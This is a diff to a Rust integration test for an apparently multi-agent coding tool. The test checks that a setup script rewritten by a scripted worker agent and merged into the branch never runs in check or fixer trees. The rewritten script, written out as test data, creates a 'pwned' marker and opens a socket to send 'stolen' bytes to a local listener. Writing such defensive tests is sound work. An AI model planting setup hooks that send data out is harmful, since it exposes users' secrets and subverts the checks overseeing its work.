@@ -19,7 +19,7 @@ use crate::support::fake_server::{FakeServer, RecordedRequest, Reply, Turn};
 use crate::support::git_fixture::GitFixture;
 use crate::support::grove::{Grove, stderr, wait_in_worktrees};
 use crate::support::requests::{Who, who};
-use crate::support::scripted_run::{lead_reply, reviewer_reply, usage};
+use crate::support::scripted_run::{answered, first_user_text, lead_reply, reviewer_reply, usage};
 
 /// Whether `mode` can run here: the sandbox always, copy-on-write trees where allowed.
 pub(crate) async fn mode_or_skip(test: &str, fixture: &GitFixture, mode: WorktreeMode) -> bool {
@@ -210,4 +210,150 @@ async fn a_rewritten_setup_never_runs_on_resume_in_a_git_worktree() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
 async fn a_rewritten_setup_never_runs_on_resume_in_a_copy_on_write_tree() {
     a_rewritten_setup_never_runs_on_resume(WorktreeMode::Overlay).await;
+}
+
+/// The original setup script: it leaves `setup-ran`, which the check requires.
+const PRISTINE_SETUP: &str = "echo set up > setup-ran\n";
+
+/// A worker's setup script that marks the tree and sends what it reads to `port` on the
+/// host's loopback.
+fn rewritten_setup(port: u16) -> String {
+    format!(
+        "echo pwned > pwned\npython3 -c \"import socket; socket.create_connection(('127.0.0.1', \
+         {port}), timeout=5).sendall(b'stolen')\"\n"
+    )
+}
+
+/// A worker's single edit, taken from its brief: `WRITE <path> <content…>`.
+fn write_from_brief(request: &RecordedRequest) -> Reply {
+    let brief = first_user_text(request);
+    let (path, content) = brief
+        .split_once("WRITE ")
+        .and_then(|(_, rest)| rest.split_once(' '))
+        .expect("a brief says what to write");
+    usage(Turn::text("Writing.").tool_use(
+        "worker_call_1",
+        "write_file",
+        json!({ "path": path, "content": content }),
+    ))
+    .into()
+}
+
+async fn a_merged_setup_rewrite_never_runs_in_a_check_tree(mode: WorktreeMode) {
+    let check = "! grep -l BROKEN *.txt && test -f setup-ran && test ! -e pwned";
+    let fixture = GitFixture::with_files(&[
+        ("base.txt", "ok\n"),
+        (".gitignore", "setup-ran\npwned\n"),
+        ("scripts/setup.sh", PRISTINE_SETUP),
+        (
+            ".grove/config.toml",
+            &format!(
+                "[worktree]\nmode = \"{mode}\"\nsetup = \"sh scripts/setup.sh\"\n\n\
+                 [check]\ncommand = '{check}'\nfix_attempts = 1\n"
+            ),
+        ),
+    ]);
+    if !mode_or_skip(
+        "a_merged_setup_rewrite_never_runs_in_a_check_tree",
+        &fixture,
+        mode,
+    )
+    .await
+    {
+        return;
+    }
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    // S1 rewrites the setup script (its reviewer approves, so it is merged); S2 breaks the
+    // check, so that the result is red, its culprit is searched for on results rebuilt
+    // with S1's script (S3 makes them trees no subtask checked), and a fixer starts from
+    // the result.
+    let s1 = format!("S1: WRITE scripts/setup.sh {}", rewritten_setup(port));
+    let briefs = [
+        (s1.clone(), None),
+        ("S2: WRITE two.txt BROKEN".to_owned(), None),
+        ("S3: WRITE three.txt ok".to_owned(), None),
+    ];
+    let server = FakeServer::with_responder(move |request: &RecordedRequest| match who(request) {
+        Who::Lead => {
+            let briefs: Vec<(&str, Option<&str>)> = briefs
+                .iter()
+                .map(|(brief, mode)| (brief.as_str(), *mode))
+                .collect();
+            lead_reply(request, &briefs)
+        }
+        Who::Worker if answered(request) => usage(Turn::text("WORKER-FINAL: done.")).into(),
+        Who::Worker if !first_user_text(request).starts_with("# Fix") => write_from_brief(request),
+        Who::Worker => usage(Turn::text("Fixing.").tool_use(
+            "worker_call_1",
+            "write_file",
+            json!({ "path": "two.txt", "content": "ok\n" }),
+        ))
+        .into(),
+        Who::Reviewer => reviewer_reply(request),
+    })
+    .await;
+    let grove = Grove::in_repo(&fixture).with_server(&server);
+    let trusted = grove.grove_async(["trust"]).await;
+    assert_eq!(trusted.status.code(), Some(0), "{}", stderr(&trusted));
+
+    let output = grove
+        .grove_async(["run", "--json", "--jobs", "1", "rewrite and break"])
+        .await;
+
+    server.assert_no_violations();
+    let stolen = std::iter::from_fn(|| listener.accept().ok()).count();
+    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap_or_default();
+    let runs: Vec<(String, String)> = report["check"]["runs"]
+        .as_array()
+        .map(Vec::as_slice)
+        .unwrap_or_default()
+        .iter()
+        .filter(|run| run["on"].as_str().unwrap_or_default().starts_with("result"))
+        .map(|run| {
+            let text = |key: &str| run[key].as_str().unwrap_or_default().to_owned();
+            (text("on"), text("status"))
+        })
+        .collect();
+    let pair = |on: &str, status: &str| (on.to_owned(), status.to_owned());
+    assert_eq!(
+        (
+            output.status.code(),
+            stolen,
+            runs,
+            report["check"]["culprit"].clone()
+        ),
+        (
+            Some(0),
+            0,
+            vec![
+                pair("result", "failed"),
+                pair("result without S1", "failed"),
+                pair("result without S2", "passed"),
+                pair("result", "passed"),
+            ],
+            json!({ "subtasks": ["S2"], "found_by": "passes_without" }),
+        ),
+        "a setup script a worker rewrote (merged) never runs in the result's check tree, \
+         the culprit search's rebuilt results or the fixer's tree: the base's script ran \
+         in each (`setup-ran`), the rewrite nowhere (no `pwned`, no connection), so only \
+         S2 is red ({mode}): {}",
+        stderr(&output)
+    );
+    assert_eq!(
+        fixture.read("scripts/setup.sh"),
+        rewritten_setup(port).into_bytes(),
+        "the rewrite was merged into the user's branch, so the test can fail ({mode})"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn a_merged_setup_rewrite_never_runs_in_a_check_tree_in_a_git_worktree() {
+    a_merged_setup_rewrite_never_runs_in_a_check_tree(WorktreeMode::Git).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn a_merged_setup_rewrite_never_runs_in_a_check_tree_in_a_copy_on_write_tree() {
+    a_merged_setup_rewrite_never_runs_in_a_check_tree(WorktreeMode::Overlay).await;
 }
